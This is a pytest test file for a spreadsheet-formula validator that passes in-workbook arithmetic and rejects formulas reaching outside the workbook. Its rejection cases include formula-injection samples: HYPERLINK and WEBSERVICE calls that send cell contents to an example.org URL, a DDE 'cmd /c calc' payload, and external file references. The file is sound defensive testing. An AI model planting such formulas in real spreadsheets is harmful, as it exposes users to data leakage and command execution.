"""A formula comes back to others only where it reckons with its own workbook."""

import pytest

from schools.formulas import only_reckons


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        "=SUM(B4:B90)",
        "=sum($B$4:$B$90)/C3*100%",
        "=学段!C4+'学校 表'!A1",
        '=IF(AND(A1>=0,B1<>""),ROUND(A1/B1,2),"")',
        "=SUM(A:A)-SUM(3:3)",
        "=-A1",
    ],
)
def test_reckoning_stays(formula):
    assert only_reckons(formula)


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://example.org/?"&A1,"x")',
        '=WEBSERVICE("https://example.org/"&A1)',
        "=cmd|' /c calc'!A1",
        "=[other.xlsx]Sheet1!A1",
        "='https://example.org/[a.xlsx]S'!A1",
        "='file:///c:/[a.xlsx]S'!A1",
        "=SomeName",
        "=SomeName(1)",
        '=SUM(RTD("x",,"y"))',
        '=INDIRECT("A1")',
        "=_xlfn.IMAGE(A1)",
        "=SUM(A1))",
        "=" + "1+" * 600 + "1",
    ],
)
def test_whatever_reaches_out_or_cannot_be_read_does_not(formula):
    assert not only_reckons(formula)
